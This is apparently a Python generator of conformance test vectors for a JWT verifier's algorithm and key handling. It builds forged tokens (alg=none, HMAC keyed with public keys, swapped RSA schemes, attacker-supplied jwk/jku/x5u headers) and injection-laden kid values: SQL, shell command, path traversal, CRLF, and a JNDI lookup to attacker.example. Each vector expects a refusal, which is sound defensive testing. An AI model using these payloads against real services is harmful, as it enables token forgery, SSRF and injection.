"""Table 1.1: the choice of algorithm and key. KEY-08 (an optional fingerprint check, off by default) has no vector."""

import json

from cryptography.hazmat.primitives import serialization

from book import (
    ALL, AUDIENCE, BASE, FAPI, ISSUER, KEYS, NOW, SETS, Book, Raw, alter_segment, claims, header, issuer_jwk, issuer_key, jws, members,
    policy_for, resigned, token,
)
from encoding import b64u, b64u_int, text, unb64u
from signing import Key, number, octets, pss_encoding, sign, signing_input

PRIME = 2**256 - 2**224 + 2**192 + 2**96 - 1


def jwk_text(value):
    return json.dumps(value, separators=(",", ":"))


def algorithm_none(book):
    for alg in FAPI:
        good = book.token(f"ALG-01.{alg}-good", token(alg))
        for what, head in {
            "none": header(alg, alg="none"),
            "none-without-kid": header(alg, drop=["kid"], alg="none"),
            "none-with-jwk": header(alg, alg="none", jwk=issuer_jwk(alg)),
        }.items():
            book.token(f"ALG-01.{alg}-{what}", signing_input(head, claims()) + ".", "algorithm_refused", twin=good)
        book.token(f"ALG-01.{alg}-none-two-segments", signing_input(header(alg, alg="none"), claims()), "token_not_compact", twin=good)
        book.token(f"ALG-03.{alg}-leftover-signature", alter_segment(token(alg), 0, lambda _: b64u(octets(header(alg, alg="none")))), "algorithm_refused", twin=good)
        book.token(f"ALG-03.{alg}-empty-signature", signing_input(header(alg), claims()) + ".", "signature_length", twin=good)
    for i, name in enumerate(["None", "NONE", "nOnE", "none ", " none", "non\u0435", "none\t", "no\u200bne", ""]):
        book.token(f"ALG-02.spelling-{i}", signing_input(header(alg=name), claims()) + ".", "algorithm_refused", twin="ALG-01.ES256-good")
    for what, raw, expect in [
        ("nul-escaped", '"none\\u0000"', "algorithm_refused"),
        ("escaped", '"\\u006eone"', "algorithm_refused"),
        ("nul-raw", '"none\0"', "json_malformed"),
    ]:
        head = members(header() | {"alg": Raw(raw)})
        book.token(f"ALG-02.{what}", signing_input(head, claims()) + ".", "algorithm_refused" if expect != "json_malformed" else expect, twin="ALG-01.ES256-good")


def hmac_with_public_keys(book):
    encodings = serialization.Encoding
    for alg in ALL:
        key, policy = issuer_key(alg), policy_for(alg)
        good = book.token(f"ALG-04.{alg}-good", token(alg), policy=policy)
        pem = key.spki(encodings.PEM)
        secrets = {
            "spki-pem-lf": pem,
            "spki-pem-crlf": pem.replace(b"\n", b"\r\n"),
            "spki-pem-no-newline": pem.rstrip(b"\n"),
            "spki-pem-leading-blank": b" " + pem,
            "spki-der": key.spki(encodings.DER),
            "jwk-json": jwk_text(issuer_jwk(alg)).encode(),
            "empty": b"",
        }
        if key.kty == "RSA":
            secrets["modulus"] = unb64u(key.private["n"])
            secrets["modulus-text"] = key.private["n"].encode()
        else:
            secrets["x"] = unb64u(key.private["x"])
        if key.kty == "EC":
            secrets["x-y"] = unb64u(key.private["x"]) + unb64u(key.private["y"])
            secrets["sec1"] = b"\4" + secrets["x-y"]
        for what, secret in secrets.items():
            head = header(alg, alg="HS256")
            book.token(f"ALG-04.{alg}-hs256-{what}", jws(head, claims(), secret, "HS256"), "algorithm_refused", policy, twin=good)
    for alg in ("HS384", "HS512"):
        value = jws(header(alg=alg), claims(), issuer_key("ES256").spki(encodings.PEM), alg)
        book.token(f"ALG-04.{alg}", value, "algorithm_refused", twin="ALG-04.ES256-good")
    value = jws(header("ES256"), claims(), issuer_key("ES256").spki(encodings.PEM), "HS256")
    book.token("ALG-04.hmac-under-es256", value, "signature_length", twin="ALG-04.ES256-good")
    value = jws(header("ES256"), claims(), issuer_key("ES256").spki(encodings.PEM), "HS512")
    book.token("ALG-04.hmac-of-64-octets-under-es256", value, "signature_invalid", twin="ALG-04.ES256-good")


def unknown_names(book):
    names = [
        "XX256", "ES999", "ES384", "ES512", "ES256K", "PS384", "PS512", "RS256", "RS384", "RS512", "Ed25519", "Ed448", "RSA-OAEP", "dir",
        "A128KW", "PBES2-HS256+A128KW", "ECDH-ES", "ML-DSA-44", "SHA256withECDSA", "es256", "Es256", "ES256 ", " ES256", "ES-256", "ES25", "ES2566", "\u0415S256",
    ]
    good = book.token("ALG-05.good", token())
    for name in names:
        what = "".join(c if c.isalnum() and c.isascii() else f"-{ord(c):x}-" for c in name)
        book.token(f"ALG-05.{what}", token(head=header(alg=name)), "algorithm_refused", twin=good)
    for alg in FAPI:
        for other in (name for name in FAPI if name != alg):
            book.token(f"ALG-05.{alg}-called-{other}", token(alg, header(alg, alg=other)), "key_algorithm_mismatch", twin="ALG-05.good")


def rsa_schemes_swapped(book):
    ps, rs = issuer_key("PS256"), issuer_key("RS256")
    good_ps, good_rs = book.token("ALG-06.PS256-good", token("PS256")), book.token("ALG-06.RS256-good", token("RS256"), policy="RS256")
    book.token("ALG-06.rs256-where-ps256", jws(header("PS256", alg="RS256"), claims(), ps), "algorithm_refused", twin=good_ps)
    book.token("ALG-06.ps256-where-rs256", jws(header("RS256", alg="PS256"), claims(), rs), "algorithm_refused", "RS256", twin=good_rs)
    book.token("ALG-06.pkcs1-called-ps256", jws(header("PS256"), claims(), ps, "RS256"), "signature_invalid", twin=good_ps)
    book.token("ALG-06.pss-called-rs256", jws(header("RS256"), claims(), rs, "PS256"), "signature_invalid", "RS256", twin=good_rs)
    both = {"base": "fapi", "algorithms": ["PS256", "RS256"], "jwks": {"keys": [issuer_jwk("PS256")]}}
    twin = book.token("ALG-06.both-listed-good", token("PS256"), policy=both)
    book.token("ALG-06.both-listed-key-is-ps256", jws(header("PS256", alg="RS256"), claims(), ps), "key_algorithm_mismatch", both, twin=twin)
    book.token("ALG-06.both-listed-no-kid", jws(header("PS256", drop=["kid"], alg="RS256"), claims(), ps), "key_unknown", both, twin=twin)
    book.add("ALG-06.key-without-alg-both-listed", "jwk", {"jwk": jwk_text(Key("issuer-ps").jwk())}, "key_algorithm_ambiguous", {"algorithms": ["PS256", "RS256"]}, twin="ALG-06.key-without-alg")
    book.add("ALG-06.key-without-alg", "jwk", {"jwk": jwk_text(Key("issuer-ps").jwk())}, "ok", {"algorithms": ["PS256", "ES256"]}, output={"thumbprint": ps.thumbprint()})


def jwk_says_otherwise(book):
    for alg in FAPI:
        good = book.add(f"ALG-07.{alg}-jwk-good", "jwk", {"jwk": jwk_text(issuer_jwk(alg))}, "ok", {"algorithms": FAPI}, output={"thumbprint": issuer_key(alg).thumbprint()})
        for other in ["ES384", "RS256", "PS512", "HS256", "none", "", *(name for name in FAPI if name != alg)]:
            book.add(f"ALG-07.{alg}-jwk-says-{other or 'nothing'}", "jwk", {"jwk": jwk_text(issuer_jwk(alg, alg=other))}, "key_algorithm_conflict", {"algorithms": FAPI}, twin=good)
        for what, value in [("number", 256), ("null", None), ("list", [alg])]:
            book.add(f"ALG-07.{alg}-jwk-alg-{what}", "jwk", {"jwk": jwk_text(issuer_jwk(alg, alg=value))}, "key_malformed", {"algorithms": FAPI}, twin=good)
        spare = Key("other-issuer-es").jwk(kid="spare", alg="ES256")
        good = book.token(f"ALG-07.{alg}-token-good", token(alg), policy={"base": "fapi", "jwks": {"keys": [issuer_jwk(alg), spare]}})
        book.token(f"ALG-07.{alg}-token", token(alg), "key_unknown", {"base": "fapi", "jwks": {"keys": [issuer_jwk(alg, alg="ES384"), spare]}}, twin=good)
        for what, more, slug in [
            ("use-enc", {"use": "enc"}, "key_use"), ("use-upper", {"use": "SIG"}, "key_use"), ("use-empty", {"use": ""}, "key_use"),
            ("use-list", {"use": ["sig"]}, "key_malformed"), ("ops-encrypt", {"key_ops": ["encrypt"]}, "key_operations"),
            ("ops-sign", {"key_ops": ["sign"]}, "key_operations"), ("ops-empty", {"key_ops": []}, "key_operations"),
            ("ops-repeated", {"key_ops": ["verify", "verify"]}, "key_operations"), ("ops-text", {"key_ops": "verify"}, "key_operations"),
            ("ops-numbers", {"key_ops": ["verify", 1]}, "key_operations"), ("ops-case", {"key_ops": ["Verify"]}, "key_operations"),
        ]:
            book.add(f"ALG-08.{alg}-{what}", "jwk", {"jwk": jwk_text(issuer_jwk(alg, **more))}, slug, {"algorithms": FAPI}, twin=f"ALG-07.{alg}-jwk-good")
            if what in ("use-enc", "ops-sign"):
                book.token(f"ALG-08.{alg}-{what}-token", token(alg), "key_unknown", {"base": "fapi", "jwks": {"keys": [issuer_jwk(alg, **more), spare]}}, twin=good)
        for what, more in [("ops-verify", {"key_ops": ["verify"]}), ("ops-more", {"key_ops": ["sign", "verify"]}), ("ops-escaped", {"key_ops": ["x-own", "verify"]})]:
            book.add(f"ALG-08.{alg}-{what}", "jwk", {"jwk": jwk_text(issuer_jwk(alg, **more))}, "ok", {"algorithms": FAPI}, output={"thumbprint": issuer_key(alg).thumbprint()})


def alg_member_malformed(book):
    good = book.token("ALG-09.good", token())
    for what, raw in [("number", "256"), ("null", "null"), ("array", '["ES256"]'), ("object", '{"ES256":1}'), ("true", "true"), ("nested", '[["ES256"]]')]:
        head = members(header() | {"alg": Raw(raw)})
        book.token(f"ALG-09.{what}", resigned("ES256", lambda m: sign("ES256", issuer_key("ES256"), m), head), "header_malformed", twin=good)
    for what, raw in [("lower", '"es256"'), ("nul-escaped", '"ES256\\u0000"'), ("trailing-blank", '"ES256 "'), ("newline", '"ES256\\n"')]:
        head = members(header() | {"alg": Raw(raw)})
        book.token(f"ALG-09.{what}", resigned("ES256", lambda m: sign("ES256", issuer_key("ES256"), m), head), "algorithm_refused", twin=good)
    book.token("ALG-09.missing", token(head=header(drop=["alg"])), "algorithm_missing", twin=good)
    book.token("ALG-09.only-capital-name", token(head=header(drop=["alg"], ALG="ES256")), "algorithm_missing", twin=good)
    escaped = members([(Raw('"\\u0061lg"'), Raw('"\\u0045S256"')), ("typ", "at+jwt"), ("kid", "es")])
    book.token("ALG-09.escaped-but-equal", token(head=escaped))
    head, payload = octets(header()), octets(claims())
    signature = sign("ES256", issuer_key("ES256"), f"{b64u(head)}.{b64u(payload)}")
    for what, value in {
        "flattened": {"payload": b64u(payload), "header": header(), "signature": b64u(signature)},
        "flattened-protected": {"payload": b64u(payload), "protected": b64u(head), "signature": b64u(signature)},
        "general": {"payload": b64u(payload), "signatures": [{"header": header(), "signature": b64u(signature)}]},
    }.items():
        book.token(f"ALG-10.{what}", jwk_text(value), "token_not_compact", twin=good)
    book.token("ALG-10.protected-without-alg", token(head=header(drop=["alg"])), "algorithm_missing", twin=good)


def fully_specified_name(book):
    full, eddsa = issuer_jwk("Ed25519"), issuer_jwk("EdDSA")
    good = book.token("ALG-11.listed", token("Ed25519"), policy="Ed25519")
    book.token("ALG-11.eddsa-where-ed25519", token("Ed25519", header("Ed25519", alg="EdDSA")), "algorithm_refused", "Ed25519", twin=good)
    other = book.token("ALG-11.eddsa-listed", token("EdDSA"))
    book.token("ALG-11.ed25519-where-eddsa", token("EdDSA", header("EdDSA", alg="Ed25519")), "algorithm_refused", twin=other)
    both = {"base": "fapi", "algorithms": ["EdDSA", "Ed25519"], "jwks": {"keys": [full, eddsa]}}
    for alg in ("EdDSA", "Ed25519"):
        book.token(f"ALG-11.both-{alg}", token(alg), policy=both)
        crossed = "Ed25519" if alg == "EdDSA" else "EdDSA"
        book.token(f"ALG-11.both-{alg}-called-{crossed}", token(alg, header(alg, alg=crossed)), "key_algorithm_mismatch", both, twin=f"ALG-11.both-{alg}")
    free = {"base": "fapi", "algorithms": ["EdDSA", "Ed25519"], "jwks": {"keys": [Key("issuer-ed").jwk(kid="ed")]}}
    for alg in ("EdDSA", "Ed25519"):
        book.token(f"ALG-11.key-without-alg-{alg}", token("EdDSA", header("EdDSA", alg=alg)), policy=free)
    for name in ("ed25519", "ED25519", "Ed448", "EDDSA", "eddsa"):
        book.token(f"ALG-11.spelled-{name}", token("Ed25519", header("Ed25519", alg=name)), "algorithm_refused", both, twin="ALG-11.both-Ed25519")
    book.add("ALG-11.jwk-alg-ed25519", "jwk", {"jwk": jwk_text(full)}, "ok", {"algorithms": ["Ed25519"]}, output={"thumbprint": issuer_key("Ed25519").thumbprint()})
    book.add("ALG-11.jwk-alg-eddsa-where-ed25519", "jwk", {"jwk": jwk_text(eddsa)}, "key_algorithm_conflict", {"algorithms": ["Ed25519"]}, twin="ALG-11.jwk-alg-ed25519")


def symmetric_keys(book):
    secret = b"a secret of thirty-two octets!!!"
    oct_key = {"kty": "oct", "k": b64u(secret), "kid": "oct", "alg": "HS256"}
    keys = [*SETS["fapi"]["keys"], oct_key]
    book.add("ALG-12.left-out", "jwks", {"jwks": jwk_text({"keys": keys})}, "ok", {"algorithms": FAPI}, output={"refused": [[3, "key_symmetric"]]})
    book.add("ALG-12.alone", "jwks", {"jwks": jwk_text({"keys": [oct_key]})}, "key_symmetric", {"algorithms": FAPI}, twin="ALG-12.left-out")
    book.add("ALG-12.jwk", "jwk", {"jwk": jwk_text(oct_key)}, "key_symmetric", {"algorithms": FAPI}, twin="ALG-07.ES256-jwk-good")
    book.add("ALG-12.jwk-called-es256", "jwk", {"jwk": jwk_text(oct_key | {"alg": "ES256"})}, "key_symmetric", {"algorithms": FAPI}, twin="ALG-07.ES256-jwk-good")
    policy = {"base": "fapi", "jwks": {"keys": keys}}
    good = book.token("ALG-12.token-good", token(), policy=policy)
    book.token("ALG-12.token", jws(header(alg="HS256", kid="oct"), claims(), secret), "algorithm_refused", policy, twin=good)
    book.token("ALG-12.token-called-es256", jws(header(kid="oct"), claims(), secret, "HS256"), "key_unknown", policy, twin=good)


def key_material_in_the_header(book):
    attackers = {"ES256": "attacker-es", "PS256": "attacker-ps", "EdDSA": "attacker-ed"}
    for alg in FAPI:
        attacker, own = Key(attackers[alg]), issuer_key(alg)
        good = book.token(f"KEY-01.{alg}-own-jwk-ignored", token(alg, header(alg, jwk=own.jwk())))
        book.token(f"KEY-01.{alg}-foreign-jwk-ignored", token(alg, header(alg, jwk=attacker.jwk())))
        book.token(f"KEY-01.{alg}-trusted-kid", token(alg, header(alg, jwk=attacker.jwk()), key=attacker), "signature_invalid", twin=good)
        book.token(f"KEY-01.{alg}-jwk-with-trusted-kid", token(alg, header(alg, jwk=attacker.jwk(kid=KEYS[alg][0])), key=attacker), "signature_invalid", twin=good)
        book.token(f"KEY-01.{alg}-no-kid", token(alg, header(alg, drop=["kid"], jwk=attacker.jwk()), key=attacker), "signature_invalid", twin=good)
        book.token(f"KEY-01.{alg}-own-kid", token(alg, header(alg, kid="attacker", jwk=attacker.jwk(kid="attacker")), key=attacker), "key_unknown", twin=good)
        for what, more in {
            "jku": {"jku": "https://attacker.example/jwks.json"}, "jku-file": {"jku": "file:///etc/passwd"}, "x5u": {"x5u": "http://169.254.169.254/latest/meta-data/"},
            "x5c": {"x5c": ["MIIB"]}, "x5t": {"x5t": "AAAAAAAAAAAAAAAAAAAAAAAAAAA"}, "jku-number": {"jku": 7}, "x5c-text": {"x5c": "MIIB"},
        }.items():
            twin = book.token(f"KEY-02.{alg}-{what}-ignored", token(alg, header(alg, **more)))
            book.token(f"KEY-02.{alg}-{what}-forged", token(alg, header(alg, **more), key=attacker), "signature_invalid", twin=twin)


def key_identifiers(book):
    good = book.token("KEY-03.good", token())
    kids = {
        "path": "../../../../dev/null", "absolute": "/etc/passwd", "sql": "es' OR '1'='1", "union": "x' UNION SELECT 'key' --", "command": "es|id;$(id)`id`",
        "crlf": "es\r\nSet-Cookie: a=b", "nul": "es\0", "nul-inside": "e\0s", "proto": "__proto__", "constructor": "constructor", "empty": "", "case": "ES", "blank": "es ",
        "leading-blank": " es", "prefix": "e", "suffix": "es2", "glob": "*", "percent": "%65s", "wide": "\uff45s", "zero-width": "es\u200b", "template": "${jndi:ldap://attacker.example/a}",
        "kib-2": "A" * 2048, "byte-257": "k" * 257,
    }
    for what, kid in kids.items():
        book.token(f"KEY-03.{what}", token(head=header(kid=kid)), "key_unknown", twin=good)
    book.token("KEY-03.kib-4", token(head=header(kid="A" * 4096)), "header_too_large", twin=good)
    book.token("KEY-03.crlf-raw", token(head=members(header() | {"kid": Raw('"es\r\n"')})), "json_malformed", twin=good)
    for what, raw in [("number", "7"), ("null", "null"), ("list", '["es"]'), ("object", "{}"), ("true", "true")]:
        book.token(f"KEY-03.kid-{what}", token(head=members(header() | {"kid": Raw(raw)})), "header_malformed", twin=good)
    book.token("KEY-03.escaped-but-equal", token(head=members(header() | {"kid": Raw('"\\u0065\\u0073"')})))
    named = {"base": "fapi", "jwks": {"keys": [Key("issuer-es").jwk(kid="\u00e9/\U0001f511", alg="ES256")]}}
    book.token("KEY-03.unicode", token(head=header(kid="\u00e9/\U0001f511")), policy=named)
    book.token("KEY-03.unicode-decomposed", token(head=header(kid="e\u0301/\U0001f511")), "key_unknown", named, twin="KEY-03.unicode")

    old, new = issuer_jwk("ES256"), Key("issuer-es-next").jwk(kid="es-next", alg="ES256")
    two = {"base": "fapi", "jwks": {"keys": [old, new]}}
    twin = book.token("KEY-04.two-keys-first", token(), policy=two)
    book.token("KEY-04.two-keys-second", token(head=header(kid="es-next"), key=Key("issuer-es-next")), policy=two)
    book.token("KEY-04.kid-of-the-other", token(head=header(kid="es-next")), "signature_invalid", two, twin=twin)
    book.token("KEY-04.no-kid-two-fit", token(head=header(drop=["kid"])), "key_ambiguous", two, twin=twin)
    book.token("KEY-04.no-kid-one-fits", token(head=header(drop=["kid"])))
    for alg in FAPI:
        for other in FAPI:
            if alg != other:
                book.token(f"KEY-04.{alg}-with-kid-of-{other}", token(alg, header(alg, kid=KEYS[other][0])), "key_algorithm_mismatch", twin=good)
    book.token("KEY-04.set-repeats-kid", token(), "key_id_repeated", {"base": "fapi", "jwks": {"keys": [old, new | {"kid": "es"}]}}, twin=twin)
    only_other = {"base": "fapi", "jwks": {"keys": [issuer_jwk("PS256")]}}
    book.token("KEY-04.no-kid-none-fits", token(head=header(drop=["kid"])), "key_unknown", only_other, twin=good)


def issuers_confused(book):
    other = Key("other-issuer-es")
    good = book.token("KEY-10.good", token())
    theirs = claims(iss="https://other.example.com")
    book.token("KEY-10.other-issuer-other-kid", token(head=header(kid="other"), payload=theirs, key=other), "key_unknown", twin=good)
    book.token("KEY-10.other-issuer-same-kid", token(payload=theirs, key=other), "issuer_mismatch", twin=good)
    book.token("KEY-10.our-issuer-their-key", token(key=other), "signature_invalid", twin=good)
    book.token("KEY-10.their-issuer-our-key", token(payload=theirs), "issuer_mismatch", twin=good)
    theirs_policy = {"base": "fapi", "issuer": "https://other.example.com", "jwks": {"keys": [other.jwk(kid="es", alg="ES256")]}}
    twin = book.token("KEY-10.their-policy", token(payload=theirs, key=other), policy=theirs_policy)
    book.token("KEY-10.our-token-at-theirs", token(), "issuer_mismatch", theirs_policy, twin=twin)


def mint():
    book = Book("algorithms", "Attacks 1.1: which algorithm and which key judge a token.")
    book.source = "attack table 1.1"
    for part in (
        algorithm_none, hmac_with_public_keys, unknown_names, rsa_schemes_swapped, jwk_says_otherwise, alg_member_malformed, fully_specified_name,
        symmetric_keys, key_material_in_the_header, key_identifiers, issuers_confused,
    ):
        part(book)
    return [book]
